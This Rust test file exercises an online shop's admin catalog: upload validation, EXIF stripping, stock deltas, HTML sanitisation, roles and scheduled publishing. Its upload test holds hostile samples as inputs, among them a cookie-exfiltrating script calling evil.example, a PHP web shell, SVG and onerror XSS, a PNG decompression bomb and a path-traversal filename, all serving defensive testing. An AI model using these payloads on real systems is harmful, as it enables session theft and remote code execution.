//! Catalog management over real HTTP (admin issue, item 5): the CCSG-V-2 upload pipeline against
//! a script disguised as a picture, an SVG with script, a PHP file, an oversized file and a
//! decompression bomb; metadata stripped from a real photo; stock adjusted by delta beside a
//! concurrent purchase; product edits sanitised and audited (IPA-C-12); roles (SWS-11).

use std::io::Cursor;

use reqwest::StatusCode;

use akinai_domain::admin::AdminRole;
use akinai_domain::ids::ProductId;

use crate::admin_orders::signed_in;
use crate::support::{Shopper, TestApp};

/// A real JPEG of `w` × `h` pixels with an EXIF segment carrying a GPS marker after SOI.
pub(crate) fn photo_with_exif(w: u32, h: u32) -> Vec<u8> {
    let img = image::RgbImage::from_fn(w, h, |x, y| {
        image::Rgb([(x % 250) as u8, (y % 250) as u8, 120])
    });
    let mut out = Cursor::new(Vec::new());
    image::DynamicImage::ImageRgb8(img)
        .write_to(&mut out, image::ImageFormat::Jpeg)
        .unwrap();
    let jpeg = out.into_inner();
    let payload = b"Exif\0\0GPSLatitude=35.6581;GPSLongitude=139.7017;akinai-secret-place";
    let len = u16::try_from(payload.len() + 2).unwrap();
    let mut with_exif = jpeg[..2].to_vec();
    with_exif.extend_from_slice(&[0xFF, 0xE1]);
    with_exif.extend_from_slice(&len.to_be_bytes());
    with_exif.extend_from_slice(payload);
    with_exif.extend_from_slice(&jpeg[2..]);
    with_exif
}

/// A PNG header announcing 30,000 × 30,000 pixels (900 megapixels) in 33 bytes.
fn png_bomb() -> Vec<u8> {
    let mut ihdr = b"IHDR".to_vec();
    ihdr.extend_from_slice(&30_000u32.to_be_bytes());
    ihdr.extend_from_slice(&30_000u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    let mut crc = 0xFFFF_FFFFu32;
    for b in &ihdr {
        crc ^= u32::from(*b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend_from_slice(&13u32.to_be_bytes());
    png.extend_from_slice(&ihdr);
    png.extend_from_slice(&(!crc).to_be_bytes());
    png
}

async fn first_product(app: &TestApp) -> ProductId {
    app.store.admin_products(None, 1).await.unwrap()[0].id
}

async fn csrf(admin: &Shopper) -> String {
    admin.get("/admin").await.hidden("csrf")
}

#[tokio::test]
async fn ccsg_v_2_uploads_that_are_not_photos_are_refused_and_nothing_is_stored() {
    let app = TestApp::demo().await;
    let staff = signed_in(&app, AdminRole::Staff).await;
    let product = first_product(&app).await;
    let path = format!("/admin/products/{}/images", product.0);
    let token = csrf(&staff).await;
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>"#;
    let attacks: [(&str, &str, Vec<u8>); 4] = [
        (
            "script-as.jpg",
            "image/jpeg",
            b"<script>fetch('https://evil.example/?c='+document.cookie)</script>".to_vec(),
        ),
        ("logo.svg", "image/svg+xml", svg.to_vec()),
        (
            "shell.php",
            "image/png",
            b"<?php system($_GET['c']); ?>".to_vec(),
        ),
        ("bomb.png", "image/png", png_bomb()),
    ];
    for (name, mime, bytes) in attacks {
        let refused = staff.upload(&path, &token, name, mime, bytes).await;
        assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}");
        assert!(
            refused.body.contains("class=\"error\""),
            "{name}: the reason is shown"
        );
    }
    // Larger than the route's limit: refused before the body is read to the end.
    let oversized = staff
        .upload(
            &path,
            &token,
            "huge.jpg",
            "image/jpeg",
            vec![0xFF; 11 * 1024 * 1024],
        )
        .await;
    assert_eq!(oversized.status, StatusCode::PAYLOAD_TOO_LARGE);
    // Without the CSRF token nothing is even looked at.
    let forged = staff
        .upload(&path, "", "ok.jpg", "image/jpeg", photo_with_exif(50, 50))
        .await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN);
    assert!(app.store.product_images(product).await.unwrap().is_empty());
    let rejected = app
        .store
        .audit_entries_of("product.image_rejected", 10)
        .await
        .unwrap();
    assert_eq!(rejected.len(), 4);
    assert!(rejected
        .iter()
        .any(|e| e.record.detail.contains("too many pixels")));
}

#[tokio::test]
async fn ccsg_v_2_a_photo_is_re_encoded_without_its_metadata_and_served_safely() {
    let app = TestApp::demo().await;
    let staff = signed_in(&app, AdminRole::Staff).await;
    let product = first_product(&app).await;
    let upload = photo_with_exif(2600, 1300);
    assert!(upload.windows(19).any(|w| w == b"akinai-secret-place"));
    let done = staff
        .upload(
            &format!("/admin/products/{}/images", product.0),
            &csrf(&staff).await,
            "IMG_0001.JPG",
            "image/jpeg",
            upload,
        )
        .await;
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.body);
    let images = app.store.product_images(product).await.unwrap();
    assert_eq!(images.len(), 1);
    let name = &images[0].name;
    assert!(
        name.as_str().len() == 36 && name.as_str().ends_with(".jpg"),
        "random name: {name}"
    );
    assert_eq!(
        (images[0].width, images[0].height),
        (2048, 1024),
        "scaled down"
    );
    let (_, stored) = app.store.image_bytes(name).await.unwrap().unwrap();
    assert!(
        !stored.windows(19).any(|w| w == b"akinai-secret-place"),
        "EXIF is gone"
    );

    // The storefront shows and serves it with its type, nosniff and a long cache.
    let page = app.shopper().get(&format!("/product/{}", product.0)).await;
    assert!(page.body.contains(&format!("/media/{name}")));
    let served = reqwest::get(format!("http://{}/media/{name}", app.addr))
        .await
        .unwrap();
    assert_eq!(served.status(), StatusCode::OK);
    assert_eq!(served.headers()["content-type"], "image/jpeg");
    assert_eq!(served.headers()["x-content-type-options"], "nosniff");
    assert_eq!(served.bytes().await.unwrap().to_vec(), stored);
    for bad in [
        "../akinai.db",
        "0000.jpg",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.jpg",
    ] {
        let missing = app.shopper().get(&format!("/media/{bad}")).await;
        assert_eq!(missing.status, StatusCode::NOT_FOUND, "{bad}");
    }
    assert_eq!(
        app.store
            .audit_entries_of("product.image_added", 5)
            .await
            .unwrap()
            .len(),
        1
    );
}

/// Stock is adjusted by delta: a purchase made while the admin had the form open is kept.
#[tokio::test]
async fn stock_adjustments_are_deltas_and_keep_a_concurrent_purchase() {
    let app = TestApp::demo().await;
    let manager = signed_in(&app, AdminRole::Manager).await;
    let sku = app.sku_with_stock("本みりん", 5).await;
    let product = app.store.skus_for_sale(&[sku]).await.unwrap()[0].product_id;
    let before = app.stock(sku).await;
    let form = manager.get(&format!("/admin/products/{}", product.0)).await;
    assert!(form
        .body
        .contains(&format!("<span class=\"stock\">{before}</span>")));
    let token = form.hidden("csrf");
    // A shopper buys one while the form is open.
    app.order_one("本みりん").await;
    let added = manager
        .post(
            &format!("/admin/products/{}/stock", product.0),
            &[
                ("csrf", token.as_str()),
                ("sku", &sku.0.to_string()),
                ("delta", "+２０"),
            ],
        )
        .await;
    assert_eq!(added.status, StatusCode::SEE_OTHER, "{}", added.body);
    assert_eq!(app.stock(sku).await, before - 1 + 20);
    let too_many = manager
        .post(
            &format!("/admin/products/{}/stock", product.0),
            &[
                ("csrf", token.as_str()),
                ("sku", &sku.0.to_string()),
                ("delta", "-100000"),
            ],
        )
        .await;
    assert_eq!(too_many.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(too_many.body.contains("0 未満にできません"));
    assert_eq!(app.stock(sku).await, before + 19, "unchanged");
    let entry = &app.store.audit_entries_of("stock.adjust", 5).await.unwrap()[0];
    assert!(entry.record.detail.contains("\"delta\":20"));
    assert!(entry
        .record
        .detail
        .contains(&format!("\"after\":{}", before + 19)));
}

/// SWS-11 and IPA-C-12: viewers cannot open the catalog; an edit is sanitised, hides an
/// unpublished product from the storefront and is audited with before and after.
#[tokio::test]
async fn sws_11_product_edits_are_sanitised_audited_and_kept_from_viewers() {
    let app = TestApp::demo().await;
    let viewer = signed_in(&app, AdminRole::Viewer).await;
    let product = first_product(&app).await;
    assert_eq!(
        viewer.get("/admin/products").await.status,
        StatusCode::FORBIDDEN
    );
    let path = format!("/admin/products/{}", product.0);
    assert_eq!(viewer.get(&path).await.status, StatusCode::FORBIDDEN);
    let token = csrf(&viewer).await;
    let denied = viewer
        .post(
            &format!("{path}/stock"),
            &[("csrf", token.as_str()), ("sku", "1"), ("delta", "5")],
        )
        .await;
    assert_eq!(denied.status, StatusCode::FORBIDDEN);

    let staff = signed_in(&app, AdminRole::Staff).await;
    let page = staff.get(&path).await;
    assert_eq!(page.status, StatusCode::OK);
    let category = app
        .store
        .admin_product(product)
        .await
        .unwrap()
        .unwrap()
        .product
        .category_id;
    let saved = staff
        .post(
            &path,
            &[
                ("csrf", page.hidden("csrf").as_str()),
                ("name", "限定 本みりん"),
                (
                    "description",
                    "<p>熟成三年</p><script>steal()</script><img src=x onerror=alert(1)>",
                ),
                ("category", &category.0.to_string()),
                ("tax_category", "reduced"),
            ],
        )
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    let stored = app.store.admin_product(product).await.unwrap().unwrap();
    assert!(!stored.published, "the box was not ticked");
    assert_eq!(stored.product.name, "限定 本みりん");
    let html = stored.product.description.as_str();
    assert!(html.contains("熟成三年") && !html.contains("script") && !html.contains("onerror"));
    assert_eq!(
        app.shopper()
            .get(&format!("/product/{}", product.0))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    let entry = &app
        .store
        .audit_entries_of("product.update", 5)
        .await
        .unwrap()[0];
    assert!(entry.record.detail.contains(r#""published":true"#));
    assert!(entry.record.detail.contains(r#""published":false"#));
    assert!(entry.record.detail.contains("限定 本みりん"));
    let bad = staff
        .post(
            &path,
            &[
                ("csrf", page.hidden("csrf").as_str()),
                ("name", ""),
                ("category", "999999"),
                ("tax_category", "luxury"),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        app.store
            .admin_product(product)
            .await
            .unwrap()
            .unwrap()
            .product
            .name,
        "限定 本みりん",
        "nothing saved half-way"
    );
}

/// A shop owner adds a category and a product with two variants and a photo, publishes it, and
/// a shopper finds it; a taken code is refused without writing anything.
#[tokio::test]
async fn a_new_product_with_variants_and_a_photo_reaches_the_storefront() {
    let app = TestApp::demo().await;
    let manager = signed_in(&app, AdminRole::Manager).await;
    let token = csrf(&manager).await;
    let cat = manager
        .post(
            "/admin/categories",
            &[
                ("csrf", token.as_str()),
                ("name", "調味料"),
                ("slug", "mirin-special"),
            ],
        )
        .await;
    assert_eq!(cat.status, StatusCode::SEE_OTHER, "{}", cat.body);
    let taken_slug = manager
        .post(
            "/admin/categories",
            &[
                ("csrf", token.as_str()),
                ("name", "調味料2"),
                ("slug", "mirin-special"),
            ],
        )
        .await;
    assert_eq!(taken_slug.status, StatusCode::UNPROCESSABLE_ENTITY);
    let category = app
        .store
        .categories()
        .await
        .unwrap()
        .into_iter()
        .find(|c| c.slug == "mirin-special")
        .unwrap()
        .id;
    let cat_id = category.0.to_string();
    let fields = |code: &str| {
        vec![
            ("csrf", token.clone()),
            ("name", "三河本みりん 限定仕込み".to_string()),
            ("category", cat_id.clone()),
            ("tax_category", "reduced".to_string()),
            ("description", "<p>三年熟成</p>".to_string()),
            ("code", code.to_string()),
            ("option_label", "500ml".to_string()),
            ("price", "2,160".to_string()),
            ("stock", "12".to_string()),
        ]
    };
    let before = app.store.admin_products(None, 1000).await.unwrap().len();
    // The demo catalog's codes are taken.
    let existing_code = app
        .store
        .admin_product(app.store.admin_products(None, 1).await.unwrap()[0].id)
        .await
        .unwrap()
        .unwrap()
        .product
        .skus[0]
        .code
        .clone();
    let taken = fields(&existing_code);
    let taken: Vec<(&str, &str)> = taken.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let refused = manager.post("/admin/products/new", &taken).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refused.body.contains("すでに使われています"));
    assert_eq!(
        app.store.admin_products(None, 1000).await.unwrap().len(),
        before
    );

    let ok = fields("MIRIN-LTD-500");
    let ok: Vec<(&str, &str)> = ok.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let created = manager.post("/admin/products/new", &ok).await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    let path = created.location().split('?').next().unwrap().to_string();
    let id: i64 = path.rsplit('/').next().unwrap().parse().unwrap();
    let product = ProductId(id);
    assert!(
        app.shopper().get(&format!("/product/{id}")).await.status == StatusCode::NOT_FOUND,
        "new products start unpublished"
    );
    let variant = manager
        .post(
            &format!("{path}/skus"),
            &[
                ("csrf", token.as_str()),
                ("code", "MIRIN-LTD-1L"),
                ("option_label", "1L"),
                ("price", "3980"),
                ("stock", "5"),
            ],
        )
        .await;
    assert_eq!(variant.status, StatusCode::SEE_OTHER, "{}", variant.body);
    let photo = manager
        .upload(
            &format!("{path}/images"),
            &token,
            "bottle.jpg",
            "image/jpeg",
            photo_with_exif(400, 600),
        )
        .await;
    assert_eq!(photo.status, StatusCode::SEE_OTHER, "{}", photo.body);
    let publish = manager
        .post(
            &path,
            &[
                ("csrf", token.as_str()),
                ("name", "三河本みりん 限定仕込み"),
                ("category", cat_id.as_str()),
                ("tax_category", "reduced"),
                ("description", "<p>三年熟成</p>"),
                ("published", "1"),
            ],
        )
        .await;
    assert_eq!(publish.status, StatusCode::SEE_OTHER);
    let page = app.shopper().get(&format!("/product/{id}")).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("三河本みりん 限定仕込み") && page.body.contains("/media/"));
    assert!(page.body.contains("500ml") && page.body.contains("1L"));
    let listing = app.shopper().get("/category/mirin-special").await;
    assert!(listing.body.contains("三河本みりん 限定仕込み"));
    let stored = app.store.admin_product(product).await.unwrap().unwrap();
    assert_eq!(stored.product.skus.len(), 2);
    for action in [
        "category.create",
        "product.create",
        "sku.create",
        "product.image_added",
    ] {
        assert_eq!(
            app.store.audit_entries_of(action, 5).await.unwrap().len(),
            1,
            "{action}"
        );
    }
}

/// Item 5 (publish/unpublish, scheduled publishing, bulk actions).
#[tokio::test]
async fn products_are_hidden_in_bulk_and_published_on_schedule() {
    let app = TestApp::demo().await;
    let manager = signed_in(&app, AdminRole::Manager).await;
    let rows = app.store.admin_products(None, 2).await.unwrap();
    let (a, b) = (rows[0].id, rows[1].id);
    let token = csrf(&manager).await;
    let bulk = manager
        .post(
            "/admin/products/bulk",
            &[
                ("csrf", token.as_str()),
                ("ids", &a.0.to_string()),
                ("ids", &b.0.to_string()),
                ("action", "unpublish"),
            ],
        )
        .await;
    assert_eq!(bulk.status, StatusCode::SEE_OTHER, "{}", bulk.body);
    for id in [a, b] {
        assert_eq!(
            app.shopper()
                .get(&format!("/product/{}", id.0))
                .await
                .status,
            StatusCode::NOT_FOUND
        );
    }
    let none = manager
        .post(
            "/admin/products/bulk",
            &[("csrf", token.as_str()), ("action", "publish")],
        )
        .await;
    assert_eq!(none.status, StatusCode::UNPROCESSABLE_ENTITY);

    // Schedule `a` for tomorrow 10:00 JST; it stays hidden until the worker's tick after that.
    let now = akinai_core::Clock::now(app.clock.as_ref());
    let when = (now + chrono::Duration::days(1))
        .with_timezone(&akinai_core::clock::jst())
        .format("%Y-%m-%dT10:00")
        .to_string();
    let current = app.store.admin_product(a).await.unwrap().unwrap().product;
    let category = current.category_id.0.to_string();
    let form = |publish_at: &str| {
        vec![
            ("csrf", token.clone()),
            ("name", current.name.clone()),
            ("category", category.clone()),
            ("tax_category", current.tax_category.as_str().to_string()),
            ("description", current.description.as_str().to_string()),
            ("published", "1".to_string()),
            ("publish_at", publish_at.to_string()),
        ]
    };
    let past = form("2020-01-01T10:00");
    let past: Vec<(&str, &str)> = past.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let refused = manager
        .post(&format!("/admin/products/{}", a.0), &past)
        .await;
    assert_eq!(
        refused.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "a time in the past"
    );
    let scheduled = form(&when);
    let scheduled: Vec<(&str, &str)> = scheduled.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let saved = manager
        .post(&format!("/admin/products/{}", a.0), &scheduled)
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    assert!(manager
        .get(&format!("/admin/products/{}", a.0))
        .await
        .body
        .contains(&format!("value=\"{when}\"")));
    assert_eq!(
        app.shop
            .catalog_admin()
            .publish_due_products()
            .await
            .unwrap(),
        0
    );
    assert_eq!(
        app.shopper().get(&format!("/product/{}", a.0)).await.status,
        StatusCode::NOT_FOUND,
        "scheduled, not yet"
    );
    app.clock.advance(chrono::Duration::days(2));
    assert_eq!(
        app.shop
            .catalog_admin()
            .publish_due_products()
            .await
            .unwrap(),
        1
    );
    assert_eq!(
        app.shopper().get(&format!("/product/{}", a.0)).await.status,
        StatusCode::OK
    );
    let entry = &app
        .store
        .audit_entries_of("product.scheduled_publish", 5)
        .await
        .unwrap()[0];
    assert_eq!(entry.record.actor, "system:scheduler");
    assert_eq!(
        app.store
            .audit_entries_of("product.bulk_publish", 5)
            .await
            .unwrap()
            .len(),
        1
    );
}
